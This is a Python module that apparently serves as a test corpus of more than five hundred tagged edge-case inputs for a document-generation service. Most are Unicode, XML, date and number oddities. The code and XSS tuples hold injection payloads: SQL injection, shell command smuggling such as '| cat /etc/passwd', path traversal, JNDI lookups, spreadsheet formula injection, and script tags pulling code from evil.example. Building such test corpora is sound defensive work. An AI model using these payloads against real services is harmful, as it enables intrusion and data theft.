"""What people and programs send that breaks careless services: more than five hundred values, each with its tag."""

from __future__ import annotations

from itertools import product
from typing import Final, NamedTuple


class Hostile(NamedTuple):
    """One value and what kind of trouble it is."""

    tag: str
    value: str


# One value a line would be five hundred lines.
# fmt: off
_XML: Final = (
    "甲公司&乙公司", "a<b", "a>b", "</w:t></w:r></w:p>尾", "<w:t>甲", "<!--", "-->", "<![CDATA[甲]]>", "]]>",
    "&amp;", "&lt;", "&#0;", "&#x8;", "&nbsp;", "&甲;", "<?xml version='1.0'?>", "<!DOCTYPE a>", "<w:br/>",
    "甲<乙&丙>丁", "&&&&", "<<>>", "<w:p/>", "xml:space='preserve'", '"甲"', "'甲'", "`甲`", "<a href=x>",
    "</body>", "<w:fldSimple w:instr='DATE'/>",
)
_JINJA: Final = tuple(
    f"{before}{inner}{after}"
    for (before, after), inner in product(
        (
            ("{{ ", " }}"),
            ("{% ", " %}"),
            ("{# ", " #}"),
            ("{{p ", " }}"),
            ("{%p ", " %}"),
            ("{_{ ", " }_}"),
            ("{%- ", " -%}"),
        ),
        ("dossier", "7*7", "dossier.__class__", "endif", "''.join", "self", "甲", "range(9)", "loop"),
    )
)
_CONTROL: Final = tuple(f"前{chr(code)}后" for code in (*range(9), 11, 12, *range(14, 32), 127, *range(128, 160)))
_NEWLINES: Final = tuple(
    f"第一{mark}第二"
    for mark in ("\n", "\r", "\r\n", "\n\n", "\n\n\n", "\r\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\t")
)
_SURROGATES: Final = tuple(f"前{chr(code)}后" for code in (0xD800, 0xD83D, 0xDBFF, 0xDC00, 0xDCFF, 0xDFFF))
_NONCHARACTERS: Final = tuple(f"前{chr(code)}后" for code in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF))
_BIDI: Final = tuple(
    f"甲{chr(code)}乙" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
)
_ZERO: Final = tuple(f"甲{chr(code)}乙" for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0xAD, 0x180E, 0x034F))
_CJK: Final = (
    *(chr(code) for code in (0x20000, 0x2A700, 0x2B740, 0x2B820, 0x2CEB0, 0x30000, 0x31350, 0x2EBF0)),
    *(chr(code) for code in range(0xF900, 0xF920)),
    *(chr(code) for code in (0xE000, 0xF8FF, 0xF0000, 0x2F800, 0x3007, 0x3021, 0x9FFF, 0x4DBF)),
    "葛\U000e0100城",
    "辻\ufe00村",
    "𠮷野",
    "䶮",
    "㛃",
    "𫖯",
    "張　三",
    "〇〇",
    "々",
    "ゝ",
    "ㄅㄆ",
    "한글",
    "龘靐齉",
    "⺮⿰",
)
_EMOJI: Final = (
    "😀", "👨‍👩‍👧", "🇨🇳", "❤️", "1️⃣", "👍🏽", "🀄", "☑", "√", "□", "★", "①", "㈠", "Ⅷ", "㎡", "℃", "‰",
)
_FORMS: Final = (
    "café", "cafe\u0301", "ﬁ", "Å", "A\u030a", "ｶﾞ", "か\u3099", "Ǆ", "ẞ", "İ", "ı", "ſ", "ﷺ", "Ⅻ", "½", "²",
    "ͅ",
)
_LENGTHS: Final = tuple(
    mark * count for mark, count in product(("字", "a", "a b", "，", "\n"), (299, 300, 301, 4999, 5000, 5001, 20_000))
)
_LINES: Final = tuple("行\n" * count for count in (199, 200, 201, 5000))
_NUMBERS: Final = (
    "1e999999", "9" * 5000, "²", "１２", "一百", "-1", "+1", "1_000", "0x10", "NaN", "sNaN", "Infinity", "-0",
    "1.5", "1,000", "٣", "00012", " 7 ", "1e1", "∞", "½", "3/4", "7人", "约7", "七", "2147483648",
    "9223372036854775808", "1\u200b2", "−1", "1e",
)
_DATES: Final = (
    "2026-02-30", "2026年13月1日", "0000-00-00", "9999-12-31", "10000-01-01", "昨天", "明天", "2月29日",
    "2026.2.29", "26.1.1", "二〇二六年十一月二十三日", "２０２６年１月１日", "2026/1/1/1", "1-1-1", "12-31",
    "年底", "13月底", "0月底", "20261323", "今天前", "2026-1-1T00:00", "Mon, 1 Jan", "31/12/2026", "2026年",
    "11月", "长期坚持", "25:00", "24:00", "下午25点", "12:60", "三点半", "-1:00",
)
_CODE: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    '"><svg onload=alert(1)>', "' onclick='", "'; DROP TABLE dossiers; --", "1 OR 1=1", "' OR ''='", "%' --",
    "_%", "\\", "\\'", "*)(uid=*))(|(uid=*", "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& true", "%s%n",
    "%00", "%0d%0aSet-Cookie: a=b", "${jndi:ldap://x}", "#{7*7}", "<%= 7 %>", "../../etc/passwd", "..\\..\\x",
    "C:\\CON", "CON", "NUL.docx", "a/b", "a\\b", "file:///etc/passwd", "//evil.example", "~root",
    "=cmd|' /C calc'!A0", '=HYPERLINK("x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", '{"a": 1}', "[[[[", "null",
    "true", "undefined", "__proto__", "__class__", "constructor", "[object Object]", "%E4%B8%AD", "\\u4e2d",
    "\\x41", "&#20013;", "=?utf-8?B?eA==?=", "level=ERROR\nadmin signed in", "\x1b[31m红", "Host: evil.example",
    "X-Auth-User: admin", "HTTP/1.1 200 OK",
)
_XSS: Final = (
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>", "'\"><img src=x onerror=alert(1)>", "<img src=//evil.example/x.png>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>甲</a>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>", "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example>", "<form action=//evil.example><button>登录</button>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    "<video src=//evil.example/x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "' autofocus onfocus=alert(1) x='", '" autofocus onfocus=alert(1) x="',
    "<math><mi xlink:href=javascript:alert(1)>", "<!--><script>alert(1)</script>-->", "<script>alert(1)//",
    '"onmouseover=alert(1)//', "<p style=background:url(//evil.example/x)>", "<x onclick=alert(1)>",
    "<template><script>alert(1)</script></template>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "data:text/html,<script>alert(1)</script>",
)
_BLANKS: Final = (
    "", " ", "　", "\xa0", "\u2003", "\u3000\u3000", " 甲 ", "　甲　", "甲  乙", "甲　乙", "\u200b", "\ufeff甲",
    "\t甲\t", "...",
)
_MARKS: Final = (
    "“甲", "甲”", "“‘甲’", "《甲", "甲》", "《《甲》》", "“”", "《》", "（甲", "甲）", "。。", "，，", "；。",
    "——", "……", "!?", "甲,乙.", '"甲"', "'甲'", "一是甲", "（一）甲", "1.甲", "①甲", "一、甲", "。", "、", "·",
    "〔2026〕", "[2026]", "X", "××", "＿＿", "XX区",
)
_SECRECY: Final = (
    "绝密★", "机密★20年", "秘密★长期", "绝密", "机密 ☆", "秘　密★", "严守国家秘密", "商业秘密",
    "机密文件的管理", "★", "内部资料★",
)
# fmt: on

CORPUS: Final = tuple(
    Hostile(tag, value)
    for tag, values in {
        "xml": _XML,
        "jinja": _JINJA,
        "control": _CONTROL,
        "newline": _NEWLINES,
        "surrogate": _SURROGATES,
        "noncharacter": _NONCHARACTERS,
        "bidi": _BIDI,
        "zero": _ZERO,
        "cjk": _CJK,
        "emoji": _EMOJI,
        "forms": _FORMS,
        "length": _LENGTHS,
        "lines": _LINES,
        "number": _NUMBERS,
        "date": _DATES,
        "code": _CODE,
        "xss": _XSS,
        "blank": _BLANKS,
        "marks": _MARKS,
        "secrecy": _SECRECY,
    }.items()
    for value in values
)
"""Every value with its tag."""
